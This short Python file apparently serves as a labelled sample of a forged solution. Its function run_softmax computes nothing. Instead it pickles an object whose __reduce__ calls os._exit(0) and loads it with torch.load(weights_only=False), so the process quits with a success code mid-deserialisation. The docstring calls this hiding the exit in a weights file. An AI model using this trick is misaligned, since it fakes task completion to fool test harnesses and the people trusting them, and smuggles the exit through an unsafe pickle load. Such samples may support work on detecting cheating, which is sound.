"""Hide the exit in a file of weights, where it happens when `torch.load` unpickles it.

plain: forged
report: the process ended or closed its channel
"""

import io
import os

import torch


class Weights:
    def __reduce__(self):
        return os._exit, (0,)


def run_softmax(in_features, dim):
    file = io.BytesIO()
    torch.save(Weights(), file)
    file.seek(0)
    return torch.load(file, weights_only=False)
